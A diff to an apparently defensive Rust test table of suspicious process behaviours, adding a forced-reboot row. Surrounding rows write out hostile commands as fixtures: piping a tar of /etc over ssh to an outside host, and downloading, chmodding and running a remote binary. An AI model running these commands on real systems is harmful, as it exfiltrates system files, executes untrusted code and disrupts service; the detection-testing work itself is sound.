@@ -194,6 +194,9 @@ pub(super) const HABITS: &[Row] = &[
     ("sensitive-upload", Suspicious, |t| {
         t.spawn(ROOT, "/usr/bin/ssh", &["ssh", "h.example.org", "(cd /etc && tar -zcf - *)"]);
     }),
+    ("shutdown", Suspicious, |t| {
+        t.spawn(ROOT, "/usr/bin/systemctl", &["reboot", "-f"]);
+    }),
     ("download-execute", Suspicious, |t| {
         let sh = shell(t, "wget http://203.0.113.7/arm7; chmod 777 arm7; ./arm7 start");
         t.command(sh, "wget http://203.0.113.7/arm7");
